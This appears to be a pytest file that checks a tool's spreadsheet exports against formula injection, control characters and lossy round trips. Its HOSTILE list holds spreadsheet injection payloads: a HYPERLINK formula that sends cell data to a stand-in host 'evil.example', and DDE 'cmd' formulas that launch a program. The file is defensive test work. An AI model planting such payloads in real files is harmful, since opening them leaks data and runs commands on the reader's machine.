"""Every export is safe to open in a spreadsheet (issue 9, items 2 and 3): hostile text comes out as text, never as
a live formula, control characters are stripped, numbers stay numbers, a failed export leaves no file, and import
takes the neutralising quote off again so a round trip is lossless.

Each export is opened the way a person's spreadsheet would read it: XLSX with openpyxl (formulas not evaluated,
so a formula cell shows as one), CSV with Python's csv reader, the Markdown report by its table rows.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sopkit import dashboard, tableio
from sopkit.compliance import compute
from sopkit.schema import LOG_COLUMNS, REGISTER_COLUMNS
from sopkit.settings import Settings
from sopkit.store.sqlite import SQLiteStore
from sopkit.timeutil import AGENCY_TZ

ROOT = Path(__file__).resolve().parents[1]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

#: What the outside pass typed, and the rest of OWASP's list; the last ones are for a lossless round trip.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "'plain apostrophe",
    "#N/A",
]


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_xlsx_safe(source: Path | bytes, numeric: set[str] = frozenset()) -> list[str]:  # type: ignore[assignment]
    """No formula cell, no text that a spreadsheet would read as one, numbers as numbers; returns all text."""
    wb = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    texts = []
    for ws in wb.worksheets:
        rows = list(ws.iter_rows())
        header = [c.value for c in rows[0]] if rows else []
        for row in rows:
            for name, cell in zip(header, row, strict=False):
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert cell.data_type != "e", f"{ws.title}!{cell.coordinate} is an error value: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    assert name not in numeric or cell.row == 1, f"{name} written as text: {cell.value!r}"
                    texts.append(cell.value)
    return texts


def assert_csv_safe(text: str, numeric: set[str] = frozenset()) -> list[dict[str, str]]:  # type: ignore[assignment]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for n, row in enumerate(rows, start=2):
        for name, value in row.items():
            if name in numeric:
                assert value == "" or number(value), f"row {n} {name}: {value!r} is not a number"
            else:
                assert not value.startswith(TRIGGERS), f"row {n} {name}: {value!r}"
    return rows


def make_store(folder: Path, controls: bool = True) -> Path:
    """A store as a hand-edited sheet could leave it: formula text in titles, notes, actors and item ids, and
    (``controls``) control characters that input would refuse (the XLSX export crashed on the NUL)."""
    store = SQLiteStore(folder / "cli.db")
    store.init()
    register, log = [], []
    for n, bad in enumerate(HOSTILE):
        item = f"=1+{n}" if n % 2 else f"item-{n}"
        many = bad if controls else bad.replace("\r", "")  # what input lets through: tab only in multi-line text,
        one = bad if controls else many.replace("\t", "")  # and no carriage return at all
        register.append({"id": item, "title": one, "summary": many, "status": "collecting", "step": "1", "rev": "1",
                         "officer": "petugas@x.go.id", "created_at": "2026-11-23T08:00:00+07:00",
                         "body": "line 1\nline 2\tend"})
        log.append({"at": "2026-11-23T08:00:00+07:00", "item_id": item, "step": "1", "action": "start",
                    "actor": one, "role": "officer", "note": many, "publish_at": ""})
    if controls:
        register.append({"id": "nul", "title": "a\x00b\x0bc\x1fd\x7fe", "status": "collecting", "step": "1",
                         "rev": "1", "body": "line 1\r\nline 2\tend"})
        log.append({"at": "2026-11-23T08:00:00+07:00", "item_id": "nul", "step": "1", "action": "start",
                    "actor": "x@d.test", "role": "officer", "note": "a\x00b", "publish_at": ""})
    store.import_rows(register, log)
    return folder


@pytest.fixture
def hostile_store(tmp_path: Path) -> Path:
    return make_store(tmp_path)


def run(tmp: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "SOPKIT_STORE": f"sqlite:///{tmp / 'cli.db'}", "SOPKIT_SECRETS": str(tmp / "none.toml")}
    return subprocess.run([sys.executable, "-m", "sopkit", *args], cwd=ROOT, env=env, capture_output=True,
                          text=True, timeout=300)


def test_cli_xlsx_export_has_no_formula_and_survives_control_characters(hostile_store: Path) -> None:
    out = hostile_store / "all.xlsx"
    p = run(hostile_store, "export", "--out", str(out))
    assert p.returncode == 0, p.stderr
    texts = assert_xlsx_safe(out)
    assert "'" + HOSTILE[0] in texts and "'=cmd|' /C calc'!A0" in texts
    assert "abcde" in texts  # control characters stripped, not the text around them
    assert "line 1\nline 2\tend" in texts  # tab and line ends are kept (XML reads CR LF as LF)
    assert "#N/A" in texts  # a string cell, not Excel's error value
    assert not list(hostile_store.glob(".*.part"))


def test_cli_csv_export_has_no_formula(hostile_store: Path) -> None:
    out = hostile_store / "csv"
    p = run(hostile_store, "export", "--out", str(out))
    assert p.returncode == 0, p.stderr
    reg = assert_csv_safe((out / "Register.csv").read_text(encoding="utf-8"))
    log = assert_csv_safe((out / "Log.csv").read_text(encoding="utf-8"))
    assert {r["title"] for r in reg} >= {"'" + HOSTILE[1], "'" + HOSTILE[5], "'" + HOSTILE[7], HOSTILE[9]}
    assert {r["actor"] for r in log} >= {"'" + HOSTILE[0], "'" + HOSTILE[4]}
    assert {r["id"] for r in reg} >= {"'=1+1", "'=1+3"}
    assert "\x00" not in (out / "Log.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_export_then_import_gives_back_exactly_what_was_stored(tmp_path: Path, form: str) -> None:
    source = make_store(tmp_path, controls=False)
    target = source / ("all.xlsx" if form == "xlsx" else "csv")
    assert run(source, "export", "--out", str(target)).returncode == 0
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    files = [str(target)] if form == "xlsx" else ["--register", str(target / "Register.csv"),
                                                  "--log", str(target / "Log.csv")]
    p = run(fresh, "import", *files)
    assert p.returncode == 0, p.stderr
    before, back = SQLiteStore(source / "cli.db"), SQLiteStore(fresh / "cli.db")
    assert [{c: r.get(c, "") for c in REGISTER_COLUMNS} for r in back.read_register().rows] == \
        [{c: r.get(c, "") for c in REGISTER_COLUMNS} for r in before.read_register().rows]
    assert [{c: r[c] for c in LOG_COLUMNS} for r in back.read_log()] == \
        [{c: r[c] for c in LOG_COLUMNS} for r in before.read_log()]


def hostile_report():  # type: ignore[no-untyped-def]
    """A report whose item ids, actors and problem reasons carry formulas, with an overdue open attempt (negative
    remaining minutes, which must stay a number)."""
    rows = []
    for n, bad in enumerate(HOSTILE[:5]):
        item = bad if n % 2 else f"item-{n}"
        rows += [{"at": "2026-11-23T08:00:00+07:00", "item_id": item, "step": "1", "action": "start", "actor": bad},
                 {"at": "2026-11-23T09:00:00+07:00", "item_id": item, "step": "1", "action": "submit", "actor": bad}]
    rows.append({"at": HOSTILE[0], "item_id": HOSTILE[1], "step": "1", "action": "start", "actor": "x"})
    log = pd.DataFrame(rows).reindex(columns=list(LOG_COLUMNS), fill_value="")
    return compute(log, Settings(), dt.datetime(2026, 11, 25, 10, 0, tzinfo=AGENCY_TZ))


NUMERIC = {"step", "attempt", "minutes", "limit_minutes", "remaining_minutes", "row"}


def test_compliance_page_downloads_have_no_formula() -> None:
    report = hostile_report()
    assert (report.attempts["remaining_minutes"] < 0).any()
    rows = assert_csv_safe(dashboard.to_csv(report).decode("utf-8"), NUMERIC)
    assert any(float(r["remaining_minutes"] or 0) < 0 for r in rows)
    texts = assert_xlsx_safe(dashboard.to_xlsx(report), NUMERIC | {"value", "attempts", "on_time_rate"})
    assert "'" + HOSTILE[1] in texts


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "md"])
def test_cli_report_has_no_formula_and_keeps_numbers(tmp_path: Path, fmt: str) -> None:
    log = tmp_path / "log.csv"
    frame = pd.DataFrame([{"at": "2026-11-23T08:00:00+07:00", "item_id": "=1+1", "step": "1", "action": "start",
                           "actor": HOSTILE[0], "role": "", "note": "", "publish_at": ""},
                          {"at": HOSTILE[1], "item_id": "@x", "step": "1", "action": "start", "actor": "y",
                           "role": "", "note": "", "publish_at": ""}])
    frame.to_csv(log, index=False)  # raw, as a person's file would be: the report must make it safe
    out = tmp_path / f"r.{fmt}"
    p = run(tmp_path, "report", "--log", str(log), "--format", fmt, "--out", str(out),
            "--as-of", "2026-11-25T10:00:00+07:00")
    assert p.returncode == 0, p.stderr
    problems = assert_csv_safe((tmp_path / "r.problems.csv").read_text(encoding="utf-8"), NUMERIC)
    assert problems and problems[0]["item_id"] == "'@x"
    if fmt == "csv":
        rows = assert_csv_safe(out.read_text(encoding="utf-8"), NUMERIC)
        assert rows[0]["item_id"] == "'=1+1" and rows[0]["actor"] == ""  # open: no actor yet
        assert float(rows[0]["remaining_minutes"]) < 0
    elif fmt == "xlsx":
        texts = assert_xlsx_safe(out, NUMERIC | {"value", "attempts", "on_time_rate"})
        assert "'=1+1" in texts
        ws = openpyxl.load_workbook(out)["Attempts"]
        header = [c.value for c in ws[1]]
        remaining = ws.cell(2, header.index("remaining_minutes") + 1)
        assert remaining.data_type == "n" and remaining.value < 0
    else:
        cells = [c.strip() for line in out.read_text(encoding="utf-8").splitlines() if line.startswith("|")
                 for c in line.strip("|").split("|")]
        assert cells
        assert not [c for c in cells if c.startswith(TRIGGERS) and not number(c) and not set(c) <= set("-:")]


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=x", "''=x"), ("'x", "'x"), ("x=1", "x=1"), ("", ""), ("a\x00b", "ab"), ("a\u0085b", "ab"),
])
def test_neutralise_and_restore(value: str, written: str) -> None:
    assert tableio.neutralise(value) == written
    if "\x00" not in value and "\u0085" not in value:
        assert tableio.restore(written) == value


def test_safe_frame_decides_per_column() -> None:
    df = pd.DataFrame({"minutes": [-3.5, 2.0], "text": ["-3.5", "=x"], "mixed": [-1.5, "=y"], "ok": [True, False]})
    safe = tableio.safe_frame(df)
    assert safe["minutes"].tolist() == [-3.5, 2.0]
    assert safe["text"].tolist() == ["'-3.5", "'=x"]  # a text column: text, even when it looks like a number
    assert safe["mixed"].tolist() == [-1.5, "'=y"]  # a number stays a number beside text
    assert safe["ok"].tolist() == [True, False]


def test_the_byte_prefilter_never_passes_a_cell_that_needs_neutralising() -> None:
    """The CSV writer skips the regular expressions for a column whose bytes show nothing to do: every code point
    below U+3000 and the last ones of the BMP, alone, inside text and first (behind quotes too), in text and
    pandas' Arrow-backed text: where :func:`neutralise` changes a cell, the prefilter must flag its column, and the
    written cell must be what :func:`neutralise` gives."""
    import pyarrow as pa

    points = [c for c in [*range(0x3000), *range(0xFFF0, 0x10000), 0x1F600] if not 0xD800 <= c <= 0xDFFF]
    cells = [f(chr(c)) for c in points for f in (lambda s: s, lambda s: "a" + s + "b", lambda s: s + "x",
                                                  lambda s: "''" + s + "x")]
    for cell in cells:
        if tableio.neutralise(cell) != cell:
            assert tableio._maybe_unsafe(pa.array(["ok", cell, ""])), repr(cell)
    col = pd.Series(["plain", *cells], dtype=pd.StringDtype("pyarrow", na_value=float("nan")))
    buf = io.BytesIO()
    tableio._csv(pd.DataFrame({"x": col, "n": range(len(col))}), buf)
    written = pd.read_csv(io.BytesIO(buf.getvalue()), dtype=str, keep_default_na=False)["x"].tolist()
    assert written == [tableio.neutralise(c) for c in ["plain", *cells]]
    assert not tableio._maybe_unsafe(pa.array(["plain", "Budi Ñoño", "2026-11-26T10:00:00+07:00", "x=1", ""]))


def test_a_failed_export_leaves_no_file_and_keeps_the_old_one(tmp_path: Path) -> None:
    target = tmp_path / "all.xlsx"
    target.write_bytes(b"the previous export")

    class Boom(Exception):
        pass

    def progress(n: int, total: int, name: str) -> None:
        if n == 2:
            raise Boom

    df = pd.DataFrame({"a": ["x"] * 10})
    with pytest.raises(Boom):
        tableio.write_xlsx({"A": df, "B": df, "C": df}, target, progress=progress)
    assert target.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["all.xlsx"]
    tableio.write_xlsx({"A": df}, tmp_path / "new.xlsx")
    assert openpyxl.load_workbook(tmp_path / "new.xlsx")["A"]["A2"].value == "x"
